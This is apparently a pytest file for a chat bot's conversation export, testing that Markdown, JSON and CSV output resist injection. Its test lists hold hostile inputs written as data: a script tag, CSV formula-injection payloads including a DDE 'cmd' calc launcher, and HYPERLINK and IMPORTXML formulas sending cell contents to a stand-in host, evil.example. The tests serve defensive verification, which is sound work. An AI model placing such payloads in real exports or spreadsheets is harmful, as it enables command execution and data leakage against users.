"""An exported conversation: complete, and its structure is ours alone."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from markdown_it import MarkdownIt

from bot.chat.answers import LiveAnswer, LiveTurn
from bot.chat.export import as_csv, as_json, as_markdown
from bot.chat.fingerprint import Fingerprint
from tests.chat.scene import FOUND
from tests.payloads import PAYLOADS


def turn(question: str = "What does it cost?", text: str = "Nine hundred.") -> LiveTurn:
    answer = LiveAnswer(
        id="a",
        strategy="rag",
        status="complete",
        text=text,
        evidence=FOUND.evidence,
        first_token_seconds=0.25,
        total_seconds=1.5,
        prompt_tokens=80,
        answer_tokens=12,
        fingerprint=Fingerprint("w" * 64, None, "p" * 64, ("doc-0000",), {"temperature": 0.0}, 7),
    )
    return LiveTurn("t", "c", question, {"rag": answer})


def test_markdown_has_question_answer_evidence_timings_and_fingerprint() -> None:
    page = as_markdown("Prices", [turn()])
    assert page.startswith(
        "# Prices\n\n## Question 1\n\n> What does it cost?\n\n### RAG (complete)"
    )
    for part in (
        "> Nine hundred.",
        "- “The K30 costs 900 euros.” — prices.md, Kilns, page 2",
        "first token after 0.25 s; 1.50 s in all; 80 + 12 tokens",
        '"prompt_sha256": "' + "p" * 64,
    ):
        assert part in page


HOSTILE = [
    "# Question 99",
    "text\n## Question 99\ntext",
    "   ### indented",
    "Title\n=====",
    "Title\n-----",
    "```\nnever closed",
    "~~~\nnever closed",
    "> > deeper\n# out",
    "<script>alert(1)</script>",
    "<h1>big</h1>",
    "![leak](https://example.org/x.png)",
    "a\r# carriage",
    "a\u2028# separator",
    "a\x0b# tab",
    "#",
    "##\tTab",
]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_written_by_others_changes_the_structure(hostile: str) -> None:
    page = as_markdown(hostile, [turn(hostile, hostile), turn()])
    lines = re.split(r"\r\n|[\n\r\x0b\x0c\x85\u2028\u2029]", page)
    ours = [line for line in lines if re.match(r"#{1,6}\s", line)]
    assert [line.split(" (")[0] for line in ours[1:]] == [
        "## Question 1",
        "### RAG",
        "## Question 2",
        "### RAG",
    ]
    inside = [re.sub(r"^(?:[#>-]\s)+", "", line) for line in lines if line.startswith(">")]
    assert not [line for line in inside if re.match(r"\s*(#{1,6}(\s|$)|=+$|-+$|```|~~~|>)", line)]
    assert "<" not in page.replace("&lt;", "")
    assert "![" not in page


def test_json_has_everything() -> None:
    document = json.loads(as_json("Prices", [turn()]))
    answer = document["turns"][0]["answers"][0]
    assert document["title"] == "Prices"
    assert (answer["strategy"], answer["status"], answer["text"]) == (
        "rag",
        "complete",
        "Nine hundred.",
    )
    assert answer["evidence"][0]["quote"] == "The K30 costs 900 euros."
    assert answer["fingerprint"]["passage_ids"] == ["doc-0000"]
    assert answer["first_token_seconds"] == 0.25


def test_a_failed_answer_says_why() -> None:
    failed = turn(text="")
    failed.answers["rag"].status = "failed"
    failed.answers["rag"].error, failed.answers["rag"].cure = "It broke.", "Try again."
    assert "### RAG (failed)\n\n> It broke. Try again." in as_markdown("Prices", [failed])
    assert json.loads(as_json("P", [failed]))["turns"][0]["answers"][0]["error"] == "It broke."


def rows_of(table: str, delimiter: str = ",") -> list[list[str]]:
    """What a spreadsheet reads."""
    return list(
        csv.reader(io.StringIO(table.removeprefix("\ufeff"), newline=""), delimiter=delimiter)
    )


def test_a_table_has_one_answer_a_row() -> None:
    asked = turn("What does it cost?", 'Nine "hundred",\nor so.')
    asked.answers["rag"].vote = -1
    table = as_csv([asked, turn("And the next?")])
    assert table.encode().startswith(b"\xef\xbb\xbf")
    head, first, second = rows_of(table)
    assert dict(zip(head, first, strict=True)) == {
        "question": "What does it cost?",
        "asked_at": "",
        "strategy": "rag",
        "model": "",
        "adapter": "",
        "status": "complete",
        "answer": 'Nine "hundred",\nor so.',
        "sources": "prices.md, Kilns, page 2",
        "first_token_seconds": "0.25",
        "total_seconds": "1.5",
        "prompt_tokens": "80",
        "answer_tokens": "12",
        "cost_dollars": "",
        "vote": "down",
        "error": "",
    }
    assert second[0] == "And the next?"


LIVE = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '=IMPORTXML("http://evil.example","//a")',
    "\t=1+1",
    "\r=1+1",
    "\n\n=1+1",
    "\r\n=1+1",
    "   =1+1",
    "\xa0=1+1",
    "'=1+1",
    '"=1+1"',
    "' \"=1+1",
    "`=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u2060\u200e=1+1",
    "\x00=1+1",
    "\x1b=1+1",
    "\u202e=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "−1+1",
    "﹦1+1",
    "fine\n=1+1",
    "fine\r=1+1",
    "fine\u2028=1+1",
    "fine;=1+1",
    "fine; =1+1;+2",
    "fine\t@x",
    'fine";"=1+1',
    '","=1+1","',
]


@pytest.mark.parametrize("hostile", LIVE)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_of_a_table_is_a_formula(hostile: str, delimiter: str) -> None:
    asked = turn(hostile, hostile)
    asked.answers["rag"].model = asked.answers["rag"].error = hostile
    for row in rows_of(as_csv([asked]), delimiter):
        for cell in row:
            for line in re.split(r"[\n\r]", cell):
                bare = line.strip(' \t"`\xa0\ufeff\u200b\u2060\u200e')
                assert not re.match(r"[=+\-@＝＋－＠−﹦]", bare), (cell, delimiter)


def test_harmless_text_comes_back_from_a_table_as_it_was() -> None:
    written = 'Café, "1,260 °C"\n\nA = B; see a-b@c.example and 3 + 4\n* one'
    assert rows_of(as_csv([turn(written, written)]))[1][5] == written


@pytest.mark.parametrize("hostile", PAYLOADS)
def test_rendered_markdown_loads_nothing_and_links_to_the_web_only(hostile: str) -> None:
    page = as_markdown(hostile, [turn(hostile, hostile)])
    for renderer in (MarkdownIt("commonmark", {"html": True}), MarkdownIt("js-default")):
        shown = renderer.render(page)
        tags = set(re.findall(r"<(\w+)", shown))
        assert tags <= {
            "h1",
            "h2",
            "h3",
            "p",
            "blockquote",
            "ul",
            "ol",
            "li",
            "a",
            "code",
            "em",
        } | {*("strong", "br", "hr", "table", "thead", "tbody", "tr", "th", "td", "pre", "s")}
        assert not re.findall(r'href="(?!https?://)[^"]*"', shown)


@pytest.mark.parametrize("hostile", PAYLOADS)
def test_json_brings_hostile_text_back_unchanged(hostile: str) -> None:
    document = json.loads(as_json(hostile, [turn(hostile, hostile)]))
    assert document["title"] == document["turns"][0]["question"] == hostile
    assert document["turns"][0]["answers"][0]["text"] == hostile
